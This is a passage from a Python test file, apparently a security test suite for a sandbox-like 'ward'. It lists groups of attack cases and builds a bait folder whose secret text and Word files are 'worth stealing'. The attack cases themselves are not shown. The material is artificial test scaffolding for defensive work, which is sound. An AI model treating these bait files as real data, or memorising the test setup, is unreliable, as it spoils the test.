    *(replace(attack, where=attack.where or REPORT) for attack in PACKAGES),
    *COMMAND_LINE,
    *PLACES,
    *DATA,
    *FORMS,
    *HISTORIES,
]


def outside(folder: Path) -> Path:
    """Make the folder with things worth stealing."""
    made = folder / "outside"
    (made / "ward").mkdir(parents=True)
    write_ward(made, ward_id="ward")
    (made / "secret.txt").write_text("BÍ MẬT", "utf-8")
    document = docx.Document()
    document.add_paragraph("BÍ MẬT")
    document.save(str(made / "secret.docx"))
    return made
